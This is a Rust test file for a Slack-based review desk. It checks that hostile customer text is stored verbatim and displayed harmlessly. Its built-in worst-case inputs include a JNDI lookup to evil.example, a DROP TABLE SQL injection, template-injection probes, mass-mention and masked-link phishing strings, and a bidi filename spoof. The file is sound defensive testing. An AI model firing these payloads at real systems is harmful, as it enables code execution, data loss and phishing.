//! Customers' words are hostile. Wherever they come in (as a review, a name, a product) and wherever people pass them
//! on (a reason, a note, a command), nobody is called, nothing is linked or formatted, and the stored words are exactly
//! what was written. The cases are the project's collection of hostile texts where it lies at hand, else the worst of
//! them, which stand here.

use std::path::PathBuf;

use serde_json::Value;
use serde_json::json;
use standins::slack::Handling;
use standins::slack::Message;
use standins::slack::Style;
use zeitnah::chat::slack::segments;
use zeitnah::domain::say::words;

use crate::desk::ANNA;
use crate::desk::CARE;
use crate::desk::CARLA;
use crate::desk::Desk;
use crate::desk::STORE;
use crate::desk::Wish;
use crate::tune;

pub struct Case {
    pub id: String,
    /// As it stands in JSON, quotes included: half an emoji is no Rust string.
    pub json: String,
    /// As a person would type it.
    pub typed: String,
    stored: String,
    display: String,
    mrkdwn: String,
}

pub fn cases() -> Vec<Case> {
    let specs = std::env::var_os("ZEITNAH_SPECS").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/reference/specs"),
        PathBuf::from,
    );
    let file = specs.join("chat/hostile/hostile-texts.json");
    let Ok(text) = std::fs::read_to_string(&file) else {
        eprintln!(
            "the collection of hostile texts is not at hand; the worst of them are used. \
             Set ZEITNAH_SPECS to the folder of the specs for all."
        );
        return worst();
    };
    let all: Value = serde_json::from_str(&text).unwrap();
    all["cases"].as_array().unwrap().iter().map(case).collect()
}

fn case(case: &Value) -> Case {
    let word = |key: &str| case[key].as_str().map(str::to_owned);
    let id = word("id").unwrap();
    let given = word("input").or_else(|| {
        let times = usize::try_from(case["generated"]["repeat"][1].as_u64()?).ok()?;
        let piece = case["generated"]["repeat"][0].as_str()?;
        Some(piece.repeat(times))
    });
    match given {
        Some(input) => {
            let stored = word("ref_stored").unwrap_or_else(|| input.clone());
            let display = word("ref_display").unwrap_or_else(|| stored.clone());
            Case {
                id,
                json: json!(input).to_string(),
                mrkdwn: word("ref_slack_mrkdwn").unwrap_or_else(|| display.replace('&', "&amp;")),
                typed: input,
                stored,
                display,
            }
        }
        None => {
            // Only as bytes: `{"text":"bad \ud83d end","id":"r1"}`
            let raw = word("raw_json").unwrap();
            let begin = raw.find(r#""text":"#).unwrap() + r#""text":"#.len();
            let end = raw[begin + 1..].find('"').unwrap() + begin + 2;
            let text = word("expect_text").unwrap();
            Case {
                id,
                json: raw[begin..end].to_owned(),
                typed: text.clone(),
                stored: text.clone(),
                display: text.clone(),
                mrkdwn: text,
            }
        }
    }
}

fn worst() -> Vec<Case> {
    let same = |id: &str, text: &str| (id.to_owned(), text.to_owned(), text.to_owned(), text.to_owned());
    let other = |id: &str, text: &str, stored: &str, display: &str| {
        (
            id.to_owned(),
            text.to_owned(),
            stored.to_owned(),
            display.to_owned(),
        )
    };
    let zalgo = format!("Z{}!", "\u{335}\u{301}".repeat(40));
    let mut all: Vec<Case> = [
        same(
            "channel",
            "<!channel> <!here|here> @everyone <@U0ANNA> <!subteam^S0CARE>",
        ),
        same("date", "<!date^0^{date_pretty}^https://evil.example|click>"),
        same(
            "masked",
            "<https://evil.example|https://bank.example> [a](https://evil.example)",
        ),
        same("unfurl", "https://evil.example/p.png?u=1 evil.example"),
        same("escaped", "&lt;!here&gt; &amp;amp; &#60;!here&#62;"),
        same("marks", "*b* _i_ ~s~ `c`\n> quote\n>>> all\n```\nx\n``` :boom:"),
        same("long", &"x".repeat(20_000)),
        same("amps", &"&".repeat(3000)),
        same("template", "{{7*7}} ${jndi:ldap://evil.example/a} %s %n <%= 1 %>"),
        same("sql", "'; DROP TABLE item; -- \\ % _ $1 $$"),
        other(
            "empty",
            " \u{200b}\u{2060}\n\t\u{feff} ",
            " \u{200b}\u{2060}\n\t\u{feff} ",
            "",
        ),
        other(
            "bidi",
            "Great \u{202e}gpj.exe\u{202c}",
            "Great \u{202e}gpj.exe\u{202c}",
            "Great gpj.exe",
        ),
        other("zero", "<\u{200b}!here>", "<\u{200b}!here>", "<!here>"),
        other("zalgo", &zalgo, &zalgo, "Z\u{335}\u{301}\u{335}\u{301}!"),
        other(
            "ansi",
            "a\u{7}b\u{1b}[31mred\r\nc\u{9b}d",
            "ab[31mred\ncd",
            "ab[31mred\ncd",
        ),
        other("nul", "before\0after", "beforeafter", "beforeafter"),
    ]
    .map(|(id, typed, stored, display)| Case {
        id,
        json: json!(typed).to_string(),
        mrkdwn: display
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;"),
        typed,
        stored,
        display,
    })
    .into();
    all.push(Case {
        id: "surrogate".into(),
        json: r#""bad \ud83d end""#.into(),
        typed: "bad \u{fffd} end".into(),
        stored: "bad \u{fffd} end".into(),
        display: "bad \u{fffd} end".into(),
        mrkdwn: "bad \u{fffd} end".into(),
    });
    all
}

/// Nothing in this message does anything: nobody is called, nothing links or unfurls, and only our own words are bold
/// or italic.
fn assert_harmless(desk: &Desk, id: &str, message: &Message, allowed: &[&str]) {
    let slack = &desk.slack;
    let notified: Vec<String> = slack
        .notified(message)
        .into_iter()
        .filter(|who| !allowed.contains(&who.as_str()))
        .collect();
    assert!(notified.is_empty(), "{id}: {notified:?} were called");
    if allowed.is_empty() {
        assert_eq!(slack.pings(message), [], "{id}");
    }
    assert_eq!(slack.unfurls(message), [""; 0], "{id}");
    for formatted in slack.formatted(message) {
        let ours = match formatted.style {
            Style::Bold => formatted.text.starts_with('★') || formatted.text.starts_with('–'),
            Style::Italic => formatted.text.starts_with("… ganzer Text"),
            Style::Link => formatted.text.contains("Zur Karte"),
            // The customer's words are a quote, and times are times.
            Style::Quote | Style::Date => true,
            Style::Strike | Style::Code | Style::Preformatted | Style::Emoji | Style::List => false,
        };
        assert!(ours, "{id}: {formatted:?}");
    }
}

/// The quoted words, and what stands around them.
fn assert_card(desk: &Desk, id: &str, card: &Message, head: &str, who: &str) -> String {
    assert_harmless(desk, id, card, &[]);
    let text = desk.text(card);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], head, "{id}");
    let [.., by, state, buttons] = lines[..] else {
        panic!("{id}: {text}")
    };
    assert!(by.starts_with(who), "{id}: {by}");
    assert!(
        state.starts_with("Antwort bis Sa 21.11. 10:00 · frei"),
        "{id}: {state}"
    );
    assert_eq!(buttons, "[Übernehmen] [Eskalieren] [Erledigt] […]", "{id}");
    card.blocks[1]["elements"][0]["elements"][0]["text"]
        .as_str()
        .unwrap()
        .to_owned()
}

async fn stored(desk: &Desk, sql: &str, id: &str) -> Option<String> {
    desk.row(sql.replace("$1", &format!("'{id}'"))).await
}

async fn one_more(desk: &Desk) {
    let before = desk.slack.messages(CARE).len();
    desk.push("last", r#"{"id":"last","rating":5,"body":"Alles gut."}"#)
        .await;
    assert_eq!(
        desk.slack.messages(CARE).len(),
        before + 1,
        "the next one comes through"
    );
    assert!(desk.text(&desk.card()).contains("Alles gut."));
}

#[test]
fn the_three_steps_come_to_what_the_collection_says() {
    for case in cases() {
        assert_eq!(words::stored(&case.typed), case.stored, "{}", case.id);
        assert_eq!(words::shown(&case.stored), case.display, "{}", case.id);
        assert_eq!(segments::escape(&case.display), case.mrkdwn, "{}", case.id);
    }
}

#[tokio::test]
async fn as_a_review() {
    let desk = Desk::with(Wish {
        tune: tune::boundless,
        ..Wish::default()
    })
    .await;
    let cases = cases();
    assert!(cases.len() >= 10);
    for (n, case) in cases.iter().enumerate() {
        let id = &case.id;
        let body = format!(
            r#"{{"id":"{id}","rating":2,"body":{},"author":{{"name":"Rolf"}}}}"#,
            case.json
        );
        let (status, answer) = desk.push(id, body).await;
        assert_eq!((status, &answer["new"]), (200, &json!(1)), "{id}: {answer}");
        let kept = stored(&desk, "SELECT body FROM item WHERE native_id = $1", id).await;
        assert_eq!(kept.unwrap_or_default(), case.stored, "{id}");
        assert_eq!(desk.slack.messages(CARE).len(), n + 1, "{id}: one card");
        let card = desk.card();
        let words = assert_card(
            &desk,
            id,
            &card,
            "★★☆☆☆  Kritik · Gartenforum",
            "von Rolf geschrieben",
        );
        if case.display.is_empty() {
            assert_eq!(words, "(ohne Text)", "{id}");
        } else {
            assert!(case.display.starts_with(&words), "{id}: {words:?}");
            let cut = desk.text(&card).contains("… ganzer Text");
            assert_eq!(cut, words.trim_end() != case.display.trim_end(), "{id}");
        }
        // And again where it is read in full.
        desk.choose(ANNA, &card, "Text kopieren").await;
        let form = serde_json::to_string(&desk.slack.view(ANNA).unwrap().view["blocks"]).unwrap();
        assert!(!form.contains("mrkdwn"), "{id}: forms hold no markup");
    }
    one_more(&desk).await;
    desk.finish().await;
}

#[tokio::test]
async fn as_an_authors_name() {
    let desk = Desk::with(Wish {
        tune: tune::boundless,
        ..Wish::default()
    })
    .await;
    for case in cases() {
        // Names longer than a thousand characters are no names.
        let typed: String = case.typed.chars().take(1000).collect();
        let json = if typed == case.typed {
            case.json.clone()
        } else {
            json!(typed).to_string()
        };
        let id = &case.id;
        let body = format!(r#"{{"id":"{id}","rating":2,"body":"Text.","author":{{"name":{json}}}}}"#);
        let (status, answer) = desk.push(id, body).await;
        assert_eq!((status, &answer["new"]), (200, &json!(1)), "{id}: {answer}");
        let kept = stored(
            &desk,
            "SELECT author ->> 'name' FROM item WHERE native_id = $1",
            id,
        )
        .await;
        assert_eq!(kept.unwrap_or_default(), words::stored(&typed), "{id}");
        let shown = words::short_line(&typed, 60);
        let who = if shown.is_empty() {
            "von anonym".to_owned()
        } else {
            format!("von {shown}")
        };
        let words = assert_card(&desk, id, &desk.card(), "★★☆☆☆  Kritik · Gartenforum", &who);
        assert_eq!(words, "Text.", "{id}");
    }
    one_more(&desk).await;
    desk.finish().await;
}

#[tokio::test]
async fn as_a_products_name_and_a_title() {
    let desk = Desk::with(Wish {
        tune: tune::boundless,
        ..Wish::default()
    })
    .await;
    for case in cases() {
        let typed: String = case.typed.chars().take(1000).collect();
        let json = if typed == case.typed {
            case.json.clone()
        } else {
            json!(typed).to_string()
        };
        let id = &case.id;
        let body = format!(
            r#"{{"id":"{id}","rating":2,"title":{json},"body":"Text.","subject":{{"id":"s","name":{json}}},"author":{{"name":"Rolf"}}}}"#
        );
        let (status, answer) = desk.push(id, body).await;
        assert_eq!((status, &answer["new"]), (200, &json!(1)), "{id}: {answer}");
        let kept = stored(
            &desk,
            "SELECT subject ->> 'name' FROM item WHERE native_id = $1",
            id,
        )
        .await;
        assert_eq!(kept.unwrap_or_default(), words::stored(&typed), "{id}");
        let kept = stored(&desk, "SELECT title FROM item WHERE native_id = $1", id).await;
        assert_eq!(kept.unwrap_or_default(), words::stored(&typed), "{id}");
        let shown = words::short_line(&typed, 60);
        let head = if shown.is_empty() {
            "★★☆☆☆  Kritik · Gartenforum".to_owned()
        } else {
            format!("★★☆☆☆  Kritik · Gartenforum · {shown}")
        };
        let words = assert_card(&desk, id, &desk.card(), &head, "von Rolf geschrieben");
        assert!(
            words.ends_with("Text.") || words::utf16_len(&words) > 550,
            "{id}: {words}"
        );
    }
    one_more(&desk).await;
    desk.finish().await;
}

#[tokio::test]
async fn as_a_reason_and_a_note() {
    let desk = Desk::with(Wish {
        tune: |rules| {
            tune::boundless(rules);
            rules.digests.clear();
        },
        ..Wish::default()
    })
    .await;
    for case in cases() {
        let id = &case.id;
        // Slack's own fields hold at most 3000 units.
        let typed = words::cut(&case.typed, 3000, usize::MAX);
        desk.push(id, format!(r#"{{"id":"{id}","rating":2,"body":"Text."}}"#))
            .await;
        let card = desk.card();
        desk.press(ANNA, &card, "Eskalieren").await;
        desk.submit(ANNA, &[("to", "leitung"), ("why", typed)]).await;
        if words::line(typed).is_empty() {
            assert!(desk.form(ANNA).ends_with("! Hier fehlt noch ein Text."), "{id}");
        } else {
            assert!(desk.text(&card).contains("eskaliert an Leitung"), "{id}");
            let room = desk.slack.dm(CARLA).unwrap();
            assert_harmless(&desk, id, desk.slack.see(&room).last().unwrap(), &[]);
        }
        desk.choose(ANNA, &card, "Zurückstellen").await;
        desk.submit(ANNA, &[("until", "morning"), ("why", typed)]).await;
        assert!(desk.text(&card).contains("⏸ Zurückgestellt"), "{id}");
        assert_harmless(&desk, id, &desk.slack.message(CARE, &card.ts).unwrap(), &[]);
        desk.press(ANNA, &card, "Erledigt").await;
        desk.submit(ANNA, &[("reason", "other"), ("note", typed)]).await;
        assert!(desk.text(&card).contains("✔ Erledigt von Anna"), "{id}");
        assert_harmless(&desk, id, &desk.slack.message(CARE, &card.ts).unwrap(), &[]);
        for line in desk.slack.see_thread(CARE, &card.ts) {
            assert_harmless(&desk, id, &line, &[CARLA]);
        }
        assert!(
            desk.slack.failures().is_empty(),
            "{id}: {:?}",
            desk.slack.failures()
        );
    }
    one_more(&desk).await;
    desk.finish().await;
}

#[tokio::test]
async fn as_an_answer_it_stands_there_exactly_as_it_was_typed() {
    let desk = Desk::with(Wish {
        held: true,
        tune: |rules| {
            tune::boundless(rules);
            rules.digests.clear();
        },
        ..Wish::default()
    })
    .await;
    let cases = cases();
    let reviews: Vec<String> = cases
        .iter()
        .map(|case| {
            desk.google
                .write(STORE, "Jule K.", 2, &format!("Zu {}.", case.id))
                .unwrap()
        })
        .collect();
    desk.minutes(5).await;
    let cards = desk.slack.see(CARE);
    assert_eq!(cards.len(), cases.len());
    for (case, review) in cases.iter().zip(&reviews) {
        let id = &case.id;
        let card = cards
            .iter()
            .find(|c| desk.text(c).contains(&format!("Zu {id}.")))
            .unwrap();
        let typed = words::cut(&case.typed, 3000, usize::MAX);
        desk.press(ANNA, card, "Antworten").await;
        desk.submit(ANNA, &[("text", typed)]).await;
        if words::shown(typed).is_empty() {
            assert!(
                desk.form(ANNA).ends_with("! Hier fehlt noch ein Text."),
                "{id}: nothing to be seen is no answer"
            );
            continue;
        }
        if typed.len() > 4096 {
            assert!(desk.form(ANNA).contains("zu lang für Google"), "{id}");
            continue;
        }
        desk.submit(ANNA, &[]).await;
        desk.seconds(30).await;
        let there: Option<String> = stored(
            &desk,
            "SELECT r.body FROM reply r JOIN item i ON i.reply_id = r.id WHERE i.body = $1",
            &format!("Zu {id}."),
        )
        .await;
        let meant = words::stored(typed).trim().to_owned();
        assert_eq!(there.as_deref(), Some(meant.as_str()), "{id}");
        let at_google = desk
            .google
            .reviews()
            .into_iter()
            .find(|r| r.id == *review)
            .unwrap();
        assert_eq!(at_google.reply.map(|r| r.comment), Some(meant), "{id}");
        desk.press(ANNA, card, "Antwort ansehen").await;
        assert_harmless(&desk, id, &desk.slack.message(CARE, &card.ts).unwrap(), &[]);
        for line in desk.slack.see_thread(CARE, &card.ts) {
            assert_harmless(&desk, id, &line, &[]);
        }
    }
    assert!(desk.slack.failures().is_empty(), "{:?}", desk.slack.failures());
    desk.everything();
    desk.finish().await;
}

#[tokio::test]
async fn as_a_commands_argument() {
    let desk = Desk::with(Wish {
        tune: tune::boundless,
        ..Wish::default()
    })
    .await;
    for case in cases() {
        let id = &case.id;
        let typed = words::cut(&case.typed, 3000, usize::MAX);
        for text in [typed.to_owned(), format!("take {typed}")] {
            desk.command(ANNA, &text).await;
            let whisper = desk.slack.ephemerals(ANNA).pop().unwrap();
            let message = Message {
                ts: whisper.ts,
                channel: whisper.channel,
                user: whisper.user,
                bot_id: None,
                text: whisper.text,
                blocks: whisper.blocks,
                metadata: None,
                thread_ts: None,
                broadcast: false,
                client_msg_id: None,
                edited: None,
                deleted: false,
                // Private sentences grow no previews.
                handling: Handling {
                    unfurl_links: Some(false),
                    unfurl_media: Some(false),
                    ..Handling::default()
                },
                version: 1,
                seen: true,
            };
            assert_harmless(&desk, id, &message, &[]);
        }
    }
    assert!(desk.slack.failures().is_empty(), "{:?}", desk.slack.failures());
    desk.finish().await;
}
